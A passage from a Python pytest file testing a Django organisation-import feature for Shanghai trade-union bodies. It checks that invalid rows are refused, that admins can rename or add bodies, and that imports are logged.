        ("已存在", "已存在"),
    ),
    "too deep": (
        ["HP-GH-09", "新单位", "基层工会", "黄浦", "HP-GH-01-1", "是"],
        ("单位层级最多 4 级", "单位层级最多 4 级"),
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_ORGANISATIONS))
def test_a_bad_organisation_row_is_refused(client, tree, case):
    row, (english, chinese) = BAD_ORGANISATIONS[case]
    client.force_login(tree.district_admin)
    before = Snapshot.take()
    response = upload(
        client,
        "organisation",
        organisation_rows(["HP-GH-08", "好单位", "基层工会", "黄浦", "HP-GH", "是"], row),
    )
    errors = bad_rows(response)
    assert list(errors) == [3], errors
    assert said(errors[3], english, chinese), errors[3]
    assert Snapshot.take() == before


def test_district_admin_renames_own_body_by_import(client, tree):
    client.force_login(tree.district_admin)
    import_file(
        client,
        "organisation",
        organisation_rows(["HP-GH", "黄浦区总工会", "区局（产业）工会", "黄浦", "SH-ZGH", "是"]),
    )
    tree.huangpu_body.refresh_from_db()
    assert tree.huangpu_body.name == "黄浦区总工会"
    assert tree.huangpu_body.parent == tree.city


def test_campaign_admin_adds_a_top_level_body(client, tree):
    client.force_login(tree.campaign_admin)
    import_file(
        client,
        "organisation",
        organisation_rows(["SH-NEW", "新的市级机关", "发文机关", "市级", "", "是"]),
    )
    body = Organisation.objects.get(code="SH-NEW")
    assert body.parent is None and body.depth == 1 and body.district == District.CITY


def test_an_organisation_import_is_logged_in_the_admin_log(client, tree):
    from django.contrib.admin.models import ADDITION, LogEntry

    client.force_login(tree.district_admin)
    import_file(
        client,
        "organisation",
        organisation_rows(["HP-GH-05", "黄浦单位五", "其他", "黄浦", "HP-GH", "是"]),
    )
    entry = LogEntry.objects.get(object_id=str(Organisation.objects.get(code="HP-GH-05").pk))
    assert (entry.user, entry.action_flag) == (tree.district_admin, ADDITION)
